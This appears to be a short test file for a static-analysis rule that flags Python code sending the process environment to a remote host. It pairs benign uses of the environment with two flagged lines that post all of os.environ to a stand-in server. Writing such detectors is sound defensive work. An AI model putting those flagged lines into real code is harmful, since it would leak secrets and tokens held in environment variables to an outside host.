# ruleid: sends-environment-by-python
found = dict(os.environ)
requests.post("https://c.example.test/", json=found)
# ruleid: sends-environment-by-python
urlopen(Request("https://c.example.test/", data=json.dumps(dict(os.environ)).encode()))
# ok: sends-environment-by-python
env = dict(os.environ)
subprocess.check_call(["make"], env=env)
# ok: sends-environment-by-python
requests.get(os.environ["MIRROR"])
